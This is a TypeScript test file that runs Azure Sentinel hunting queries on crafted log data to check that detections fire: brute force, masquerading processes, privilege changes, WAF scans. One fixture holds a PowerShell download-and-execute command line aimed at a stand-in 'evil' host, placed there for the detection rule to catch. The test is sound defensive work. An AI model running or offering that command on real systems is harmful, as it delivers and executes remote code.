/**
 * Real Azure-Sentinel hunting queries and rules (test/fixtures/sentinel-corpus, MIT) run unchanged:
 * each loads, validates and runs on the local engine, and a set of them answer crafted data as
 * computed by hand.
 */
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { CORPUS_DIR, runCorpus } from "../../bench/sentinel-corpus.js";
import { composeQuery, durationMs } from "../../lib/hunts/catalog.js";
import { loadSentinelFolder } from "../../lib/hunts/sentinel.js";
import { tableFromRecords, tableToObjects, type Table } from "../../lib/kql/index.js";
import { TABLE_SCHEMAS } from "../../lib/schemas/index.js";
import { LocalSource } from "../../lib/sources/local.js";

const NOW = Date.UTC(2024, 9, 18, 12);
const MIN = 60_000;
const iso = (msBeforeNow: number) => new Date(NOW - msBeforeNow).toISOString();

function table(name: string, records: Record<string, unknown>[]): Table {
  return tableFromRecords(TABLE_SCHEMAS[name], records);
}

/** Runs one corpus file as its imported hunt would run at NOW, over the given tables. */
async function runFile(file: string, tables: Record<string, Table>) {
  const path = join(CORPUS_DIR, file);
  const { hunts } = await loadSentinelFolder(join(path, ".."));
  const hunt = hunts.find((h) => h.reference?.endsWith(`(${path})`));
  if (!hunt) throw new Error(`${file} did not load`);
  const window = { start: NOW - durationMs(hunt.context ?? hunt.lookback), end: NOW };
  const { table: result } = await new LocalSource(tables).query({ query: composeQuery(hunt, window), timespan: window, queryId: file });
  return tableToObjects(result);
}

describe("the vendored Sentinel corpus", () => {
  it("at least 48 files, and every one loads, validates and runs", async () => {
    const outcomes = await runCorpus({}, NOW);
    expect(outcomes.length).toBeGreaterThanOrEqual(48);
    expect(outcomes.filter((o) => o.stage !== "ok")).toEqual([]);
  }, 300_000);
});

describe("corpus answers on crafted data, computed by hand", () => {
  it("privileged sign-in failure spike: series_decompose_anomalies over 14 days of hourly failures flags the spike hour", async () => {
    // 5 to 7 failures every hour for 14 days (an irregular pattern: no period to learn), and 60 at 15:00 the day before.
    // The line fit stays near 6, residuals within +-1 make the 10th-90th range about 2, so the spike's residual of ~54
    // scores far above 3; every other hour stays within the fences. The baseline, as a long, is 6 (above 5).
    const start = Date.UTC(2024, 9, 4);
    const spike = Date.UTC(2024, 9, 17, 15);
    const failures: Record<string, unknown>[] = [];
    for (let hour = start; hour < Date.UTC(2024, 9, 18); hour += 60 * MIN) {
      const n = hour === spike ? 60 : 5 + ((Math.imul((hour - start) / (60 * MIN), 2654435761) >>> 29) % 3);
      for (let i = 0; i < n; i++) {
        failures.push({
          TimeGenerated: new Date(hour + 10 * MIN + i * 1000).toISOString(),
          UserPrincipalName: "Admin@Contoso.com",
          ResultType: "50126",
          OperationName: "Sign-in activity",
          Category: "SignInLogs",
          AppDisplayName: "Azure Portal",
          IPAddress: "203.0.113.7",
        });
      }
    }
    const rows = await runFile("entra-id/PrivilegedAccountsSigninFailureSpikes.yaml", {
      SigninLogs: table("SigninLogs", failures),
      IdentityInfo: table("IdentityInfo", [
        { TimeGenerated: iso(60 * MIN), AccountUPN: "admin@contoso.com", AssignedRoles: ["Global Administrator"], GroupMembership: [] },
      ]),
    });
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      UserPrincipalName: "admin@contoso.com",
      TotalFailedSignins: 60,
      PartialFailedSignins: 60,
      anomalies: 1,
      baseline: 6,
      Name: "admin",
      UPNSuffix: "contoso.com",
    });
    expect(rows[0].score).toBeGreaterThan(3);
  });

  it("AD FS remote auth sync: parse_xml, mv-expand bagexpansion=array, bag_unpack and pivot rebuild the 5156 fields", async () => {
    // pivot groups the 5156 fields by TimeGenerated, Computer and EventID: each event has its own time.
    let minutesAgo = 40;
    const adfs = (EventID: number, data: string, source = "AD FS Auditing") => ({
      TimeGenerated: iso(minutesAgo-- * MIN),
      Computer: "adfs1.contoso.com",
      EventID,
      EventSourceName: source,
      EventData: `<EventData>${data}</EventData>`,
    });
    const wfp = (fields: Record<string, string>) =>
      adfs(
        5156,
        Object.entries(fields)
          .map(([name, value]) => `<Data Name="${name}">${value}</Data>`)
          .join(""),
        "Microsoft-Windows-Security-Auditing",
      );
    const rows = await runFile("windows-security-events/ADFSRemoteAuthSyncConnection.yaml", {
      SecurityEvent: table("SecurityEvent", [
        adfs(412, "<Data>inst-1</Data><Data>token</Data>"),
        adfs(
          501,
          "<Data>inst-1</Data><Data>http://schemas.xmlsoap.org/ws/2005/05/identity/claims/name</Data><Data>CONTOSO\\adfsadmin</Data>",
        ),
        wfp({
          Application: "System",
          Direction: "%%14592",
          SourceAddress: "10.0.0.9",
          SourcePort: "50000",
          DestAddress: "10.0.0.5",
          DestPort: "80",
        }),
        // Outbound, and to another port: not the replication traffic the rule looks for.
        wfp({
          Application: "System",
          Direction: "%%14593",
          SourceAddress: "10.0.0.5",
          SourcePort: "50001",
          DestAddress: "10.0.0.7",
          DestPort: "80",
        }),
        wfp({
          Application: "System",
          Direction: "%%14592",
          SourceAddress: "10.0.0.8",
          SourcePort: "50002",
          DestAddress: "10.0.0.5",
          DestPort: "443",
        }),
      ]),
    });
    expect(rows.map((r) => [r.Computer, r.ClaimsName, r.SourceAddress, r.SourcePort])).toEqual([
      ["adfs1.contoso.com", "CONTOSO\\adfsadmin", "10.0.0.9", 50000],
    ]);
  });

  it("masquerading svchost outside System32 is found, split into domain and host parts (strcat_array, array_slice)", async () => {
    const rows = await runFile("windows-security-events/masquerading_files.yaml", {
      SecurityEvent: table("SecurityEvent", [
        {
          TimeGenerated: iso(MIN),
          Computer: "web1.corp.contoso.com",
          EventID: 4688,
          NewProcessName: "C:\\Users\\bob\\svchost.exe",
          SubjectUserSid: "S-1-5-21-1",
          SubjectUserName: "bob",
          Account: "CORP\\bob",
          CommandLine: "svchost",
        },
        {
          TimeGenerated: iso(MIN),
          Computer: "web1.corp.contoso.com",
          EventID: 4688,
          NewProcessName: "C:\\Windows\\System32\\svchost.exe",
          SubjectUserSid: "S-1-5-21-1",
          SubjectUserName: "bob",
          Account: "CORP\\bob",
          CommandLine: "svchost",
        },
      ]),
    });
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ NTDomain: "CORP", Name: "bob", HostName: "web1", DnsDomain: "corp.contoso.com", count_: 1 });
  });

  it("User Account added to a built-in group: EventID given as strings matches the int column (Kusto converts)", async () => {
    const rows = await runFile("windows-security-events/UserAccountAddedToPrivlegeGroup.yaml", {
      SecurityEvent: table("SecurityEvent", [
        {
          TimeGenerated: iso(MIN),
          Computer: "dc1.corp.local",
          EventID: 4732,
          AccountType: "User",
          TargetSid: "S-1-5-32-544",
          UserPrincipalName: "eve@corp.local",
        },
        {
          TimeGenerated: iso(MIN),
          Computer: "dc1.corp.local",
          EventID: 4732,
          AccountType: "User",
          TargetSid: "S-1-5-32-555",
          UserPrincipalName: "ann@corp.local",
        },
      ]),
    });
    expect(rows.map((r) => [r.Name, r.UPNSuffix, r.HostName, r.DnsDomain])).toEqual([["eve", "corp.local", "dc1", "corp.local"]]);
  });

  it("VIP failed logons: datatable join, six failures in the window, LogonType compared with strings", async () => {
    const failures = Array.from({ length: 6 }, (_, i) => ({
      TimeGenerated: iso((i + 1) * MIN),
      EventID: 4625,
      AccountType: "User",
      LogonType: 3,
      Account: "Domain\\Bob",
    }));
    const rows = await runFile("windows-security-events/VIPAccountFailedLogons.yaml", { SecurityEvent: table("SecurityEvent", failures) });
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ Account: "Domain\\Bob", FailedVIPLogons: 6, NTDomain: "Domain", UserName: "Bob" });
  });

  it("PowerShell downloads via a user-defined function with let inside its body", async () => {
    const rows = await runFile("windows-security-events/powershell_downloads.yaml", {
      SecurityEvent: table("SecurityEvent", [
        {
          TimeGenerated: iso(MIN),
          Computer: "pc1.corp",
          EventID: 4688,
          SubjectUserName: "bob",
          NewProcessName: "C:\\x\\powershell.exe",
          CommandLine: "iex (New-Object Net.WebClient).DownloadString('http://evil')",
        },
        {
          TimeGenerated: iso(MIN),
          Computer: "pc1.corp",
          EventID: 4688,
          SubjectUserName: "bob",
          NewProcessName: "C:\\x\\powershell.exe",
          CommandLine: "Get-Date",
        },
      ]),
    });
    expect(rows.map((r) => [r.FileName, r.AccountName, r.HostName, r.DnsDomain])).toEqual([["powershell.exe", "bob", "pc1", "corp"]]);
  });

  it("NRT rule: mv-apply twice over TargetResources and modifiedProperties, trim of quotes", async () => {
    const audit = (group: string) => ({
      TimeGenerated: iso(30_000),
      Category: "RoleManagement",
      OperationName: "Add member to role",
      InitiatedBy: { user: { userPrincipalName: "admin@contoso.com", id: "u1", ipAddress: "1.2.3.4" } },
      TargetResources: [
        {
          type: "User",
          userPrincipalName: "eve@contoso.com",
          modifiedProperties: [{ displayName: "Role.WellKnownObjectName", newValue: `"${group}"` }],
        },
      ],
    });
    const rows = await runFile("entra-id/NRT_UseraddedtoPrivilgedGroups.yaml", {
      AuditLogs: table("AuditLogs", [audit("TenantAdmins"), audit("HelpdeskAdmins")]),
    });
    expect(rows.map((r) => [r.GroupName, r.TargetName, r.InitiatingIpAddress, r.InitiatedByName])).toEqual([
      ["TenantAdmins", "eve", "1.2.3.4", "admin"],
    ]);
  });

  it("GitHub sign-in burst: table() inside a function, union isfuzzy over a table the data lacks", async () => {
    const signin = (location: string) => ({
      TimeGenerated: iso(10 * MIN),
      AppDisplayName: "GitHub.com",
      ResultType: "0",
      UserPrincipalName: "bob@contoso.com",
      Location: location,
    });
    const rows = await runFile("entra-id/Sign-in Burst from Multiple Locations.yaml", {
      SigninLogs: table("SigninLogs", [signin("US"), signin("FR"), signin("US")]),
    });
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ UserPrincipalName: "bob@contoso.com", CountOfLocations: 2, Name: "bob", UPNSuffix: "contoso.com" });
  });

  it("a 1-hour rule without a time filter reads only its hour (the local source applies the query period)", async () => {
    const signin = (ago: number, location: string) => ({
      TimeGenerated: iso(ago),
      AppDisplayName: "GitHub.com",
      ResultType: "0",
      UserPrincipalName: "bob@contoso.com",
      Location: location,
    });
    const rows = await runFile("entra-id/Sign-in Burst from Multiple Locations.yaml", {
      SigninLogs: table("SigninLogs", [signin(10 * MIN, "US"), signin(3 * 60 * MIN, "FR")]),
    });
    expect(rows).toEqual([]);
  });

  it("crontab edits: parse extracts user and action, summarized per 10 minutes", async () => {
    const message = (action: string) => `(root) ${action} (root)`;
    const rows = await runFile("syslog/SchedTaskEditViaCrontab.yaml", {
      Syslog: table("Syslog", [
        {
          TimeGenerated: iso(5 * MIN),
          Computer: "lx1",
          Facility: "cron",
          ProcessName: "crontab",
          SeverityLevel: "info",
          SyslogMessage: message("BEGIN EDIT"),
        },
        {
          TimeGenerated: iso(5 * MIN),
          Computer: "lx1",
          Facility: "cron",
          ProcessName: "crontab",
          SeverityLevel: "info",
          SyslogMessage: message("LIST"),
        },
      ]),
    });
    expect(rows.map((r) => [r.user, r.ListOfActions, r.HostCustomEntity])).toEqual([["root", ["BEGIN EDIT"], "lx1"]]);
  });

  it("squid abused TLDs: extract with RE2 groups finds the .xyz domain", async () => {
    const line = "1700000000.000 100 10.1.1.5 TCP_MISS/200 512 GET http://bad.example.xyz/path - HIER_DIRECT/1.2.3.4 text/html";
    const rows = await runFile("syslog/squid_abused_tlds.yaml", {
      Syslog: table("Syslog", [{ TimeGenerated: iso(MIN), ProcessName: "squid", SyslogMessage: line }]),
    });
    expect(rows.map((r) => [r.TLD, r.URL, r.clientCount])).toEqual([[".xyz", "bad.example.xyz/path", 1]]);
  });

  it("new account added to admin group: IdentityInfo (published schema) and an empty tactics list load", async () => {
    const rows = await runFile("ueba/newAccountAddedToAdminGroup.yaml", {
      IdentityInfo: table("IdentityInfo", [
        {
          TimeGenerated: iso(MIN),
          AccountObjectId: "a1",
          AccountCreationTime: iso(10 * 24 * 60 * MIN),
          GroupMembership: ["Administrators"],
        },
        { TimeGenerated: iso(MIN), AccountObjectId: "a2", AccountCreationTime: iso(10 * 24 * 60 * MIN), GroupMembership: ["Users"] },
      ]),
    });
    expect(rows.map((r) => r.AccountObjectId)).toEqual(["a1"]);
  });

  it("Teams deleted by one user more than three times (in with a sub-query)", async () => {
    const deletes = (user: string, n: number) =>
      Array.from({ length: n }, () => ({
        TimeGenerated: iso(MIN),
        OfficeWorkload: "MicrosoftTeams",
        Operation: "TeamDeleted",
        UserId: user,
      }));
    const rows = await runFile("microsoft-365/MultipleTeamsDeletes.yaml", {
      OfficeActivity: table("OfficeActivity", [...deletes("eve@contoso.com", 4), ...deletes("bob@contoso.com", 2)]),
    });
    expect(rows).toHaveLength(4);
    expect(new Set(rows.map((r) => r.AccountName))).toEqual(new Set(["eve"]));
  });

  it("rare DNS hosts: parse_url host and top-nested over dcount of devices", async () => {
    const event = (device: string, url: string) => ({ TimeGenerated: iso(MIN), Timestamp: iso(MIN), DeviceId: device, RemoteUrl: url });
    const rows = await runFile("defender-xdr/Connection to Rare DNS Hosts.yaml", {
      DeviceNetworkEvents: table("DeviceNetworkEvents", [event("d1", "https://a.b.evil.com/x"), event("d2", "https://a.b.evil.com/y")]),
    });
    expect(rows).toEqual([
      {
        SecondLevelDomain: "evil.com",
        ThirdLevelDomain: "b.evil.com",
        RemoteDomain: "a.b.evil.com",
        ConnectionCount: 2,
        DistinctDevices: 2,
      },
    ]);
  });

  it("bulk password resets: three distinct targets in one hour from one actor", async () => {
    const reset = (target: string) => ({
      TimeGenerated: iso(20 * MIN),
      OperationName: "Reset password (by admin)",
      Result: "success",
      InitiatedBy: { user: { userPrincipalName: "helpdesk@contoso.com", ipAddress: "5.6.7.8" } },
      TargetResources: [{ userPrincipalName: target }],
    });
    const rows = await runFile("audit-logs/BulkPasswordResetByActor.yaml", {
      AuditLogs: table("AuditLogs", [reset("a@contoso.com"), reset("b@contoso.com"), reset("c@contoso.com"), reset("c@contoso.com")]),
    });
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      Actor: "helpdesk@contoso.com",
      ResetCount: 3,
      AccountName: "helpdesk",
      AccountUPNSuffix: "contoso.com",
      ActorIp: "5.6.7.8",
    });
  });

  it("guest changed to member: mv-expand over an element path", async () => {
    const rows = await runFile("audit-logs/GuestUserTypeChangedToMember.yaml", {
      AuditLogs: table("AuditLogs", [
        {
          TimeGenerated: iso(MIN),
          OperationName: "Update user",
          Result: "success",
          InitiatedBy: { user: { userPrincipalName: "admin@contoso.com" } },
          TargetResources: [
            {
              userPrincipalName: "guest_x@contoso.com",
              id: "t1",
              modifiedProperties: [{ displayName: "UserType", oldValue: '["Guest"]', newValue: '["Member"]' }],
            },
          ],
        },
      ]),
    });
    expect(rows.map((r) => [r.TargetUpn, r.OldUserType, r.NewUserType, r.Actor])).toEqual([
      ["guest_x@contoso.com", '["Guest"]', '["Member"]', "admin@contoso.com"],
    ]);
  });

  it("uncommon processes: percentiles over a serialized sub-query picks the rarest (nearest rank)", async () => {
    const proc = (name: string, n: number) =>
      Array.from({ length: n }, () => ({
        TimeGenerated: iso(MIN),
        Computer: "pc",
        EventID: 4688,
        SubjectUserName: "bob",
        NewProcessName: `C:\\x\\${name}`,
      }));
    const rows = await runFile("windows-security-events/uncommon_processes.yaml", {
      SecurityEvent: table("SecurityEvent", [...proc("common.exe", 50), ...proc("rare.exe", 1), ...proc("tool9.exe", 20)]),
    });
    // frequencies 50, 1, 20: the 5th percentile by nearest rank is 1, so only rare.exe (digits normalised away elsewhere).
    expect(rows.map((r) => [r.FileName, r.frequency])).toEqual([["rare.exe", 1]]);
  });
  it("SSH brute force: over 15 failures from one address in a 4-hour bin; several hosts hide behind a hashed placeholder", async () => {
    const failure = (ip: string, computer: string, user: string, minutesAgo: number) => ({
      TimeGenerated: iso(minutesAgo * MIN),
      Computer: computer,
      ProcessName: "sshd",
      SyslogMessage: `Failed password for invalid user ${user} from ${ip} port 4${minutesAgo} ssh2`,
      _ResourceId: `/subscriptions/s/${computer}`,
    });
    const rows = [
      // 16 failures on one host within one 4-hour bin (08:00-12:00): reported with the host and user themselves.
      ...Array.from({ length: 16 }, (_, i) => failure("203.0.113.7", "web1", "admin", 10 + i)),
      // 16 failures on each of two hosts: reported, the host list hashed into a placeholder.
      ...Array.from({ length: 16 }, (_, i) => failure("198.51.100.9", "web1", "root", 20 + i)),
      ...Array.from({ length: 16 }, (_, i) => failure("198.51.100.9", "db1", "root", 40 + i)),
      // 15 failures: not over the threshold.
      ...Array.from({ length: 15 }, (_, i) => failure("192.0.2.1", "web1", "test", 60 + i)),
    ];
    const result = await runFile("syslog/ssh_potentialBruteForce.yaml", { Syslog: table("Syslog", rows) });
    const byIp = new Map(result.map((r) => [r.IPAddress as string, r]));
    expect([...byIp.keys()].sort()).toEqual(["198.51.100.9", "203.0.113.7"]);
    // The rule sums PerHourCount after mv-expanding each bin's event times, so a bin of 16 counts 16 x 16.
    expect(byIp.get("203.0.113.7")).toMatchObject({ HostName: "web1", Account: "admin", sum_PerHourCount: 256 });
    expect(byIp.get("198.51.100.9")!.sum_PerHourCount).toBe(512);
    expect(byIp.get("198.51.100.9")!.HostName).toMatch(/^SeeComputerListField_-?\d+$/);
  });
  it("App Gateway WAF scanner: Azure Diagnostics mode columns (transactionId_g, hostname_s) joined per transaction, 3 blocked scans from one client", async () => {
    const columns = [
      ...TABLE_SCHEMAS.AzureDiagnostics,
      ...["ruleGroup_s", "transactionId_g", "hostname_s", "clientIp_s", "details_message_s", "details_data_s"].map((name) => ({
        name,
        type: "string" as const,
      })),
    ];
    const waf = (transaction: string, ip: string, action: string, minutesAgo: number) => ({
      TimeGenerated: iso(minutesAgo * MIN),
      Category: "ApplicationGatewayFirewallLog",
      action_s: action,
      Message: action === "Matched" ? "Found User-Agent associated with security scanner" : "Inbound Anomaly Score Exceeded",
      ruleGroup_s: action === "Matched" ? "REQUEST-913-SCANNER-DETECTION" : "BLOCKING-EVALUATION",
      transactionId_g: transaction,
      hostname_s: "shop.contoso.com",
      requestUri_s: "/admin",
      clientIp_s: ip,
    });
    const rows = [
      // Three scanned and blocked transactions from one client: at the threshold.
      ...["t1", "t2", "t3"].flatMap((t, i) => [waf(t, "203.0.113.9", "Matched", 10 + i), waf(t, "203.0.113.9", "Blocked", 10 + i)]),
      // Two from another: below it; and a match never blocked.
      ...["t4", "t5"].flatMap((t, i) => [waf(t, "198.51.100.4", "Matched", 30 + i), waf(t, "198.51.100.4", "Blocked", 30 + i)]),
      waf("t6", "203.0.113.9", "Matched", 40),
    ];
    const result = await runFile("azure-waf/App-GW-WAF-Scanner-detection.yaml", { AzureDiagnostics: tableFromRecords(columns, rows) });
    expect(result.map((r) => [r.clientIp_s, r.Uri, r.action_s, r.Total_TransactionId])).toEqual([
      ["203.0.113.9", "shop.contoso.com/admin", "Blocked", 3],
    ]);
  });

  it("storage key listing: autocluster learns each caller's usual address; an address outside the caller's patterns is reported", async () => {
    const listKeys = (caller: string, ip: string, hoursAgo: number) => ({
      TimeGenerated: iso(hoursAgo * 60 * MIN),
      OperationNameValue: "MICROSOFT.STORAGE/STORAGEACCOUNTS/LISTKEYS/ACTION",
      ActivityStatusValue: "Succeeded",
      Caller: caller,
      CallerIpAddress: ip,
      ResourceId: "/subscriptions/s/resourceGroups/rg/providers/Microsoft.Storage/storageAccounts/data",
    });
    const rows = [
      ...[1, 2, 3, 4].map((h) => listKeys("alice@contoso.com", "10.1.1.1", h)),
      listKeys("alice@contoso.com", "198.51.100.66", 5),
      ...[1, 2, 3].map((h) => listKeys("bob@contoso.com", "10.2.2.2", h)),
    ];
    const result = await runFile("azure-activity/Anomalous_Listing_Of_Storage_Keys.yaml", { AzureActivity: table("AzureActivity", rows) });
    // Patterns (documented score, SizeWeight 0.5): alice|10.1.1.1 (4 rows), alice|* (5, where alice's rare address
    // climbs to) and bob|10.2.2.2 (3). bob's only address matches his pattern; alice's wildcard pattern expects no one
    // address, so both of hers differ from it.
    expect(result.map((r) => [r.Caller, r.CallerIpAddress, r.ResourceIdCount]).sort()).toEqual([
      ["alice@contoso.com", "10.1.1.1", 1],
      ["alice@contoso.com", "198.51.100.66", 1],
    ]);
  });

  it("AI agents sending email with generated inputs: a typed bool before `*` in parse reads the configuration's flag", async () => {
    // Two published agents with the Microsoft 365 send-email tool and no fixed inputs; only the first lets the
    // orchestrator generate actions. A third agent has the flag but was deleted since.
    const agent = (id: string, name: string, generative: boolean, status = "Published", minutesAgo = 60) => ({
      Timestamp: iso(minutesAgo * MIN),
      AIAgentId: id,
      AIAgentName: name,
      AgentStatus: status,
      CreatorAccountUpn: `${name}-owner@contoso.com`,
      RawAgentInfo: { Bot: { Attributes: { configuration: `{"GenerativeActionsEnabled":${generative},"Language":1033}` } } },
      AgentToolsDetails: [{ action: { operationId: "SendEmailV2" }, modelDisplayName: "Send an email (V2)" }],
    });
    const rows = await runFile("ai-agents/AIAgentsEmailAIControlledInputs.yaml", {
      AIAgentsInfo: table("AIAgentsInfo", [
        agent("a1", "mailer", true),
        agent("a2", "helpdesk", false),
        agent("a3", "retired", true, "Published", 120),
        agent("a3", "retired", true, "Deleted", 30),
      ]),
    });
    expect(rows.map((r) => [r.AIAgentId, r.ActionName, r.AccountCustomEntity])).toEqual([
      ["a1", "Send an email (V2)", "mailer-owner@contoso.com"],
    ]);
  });
});
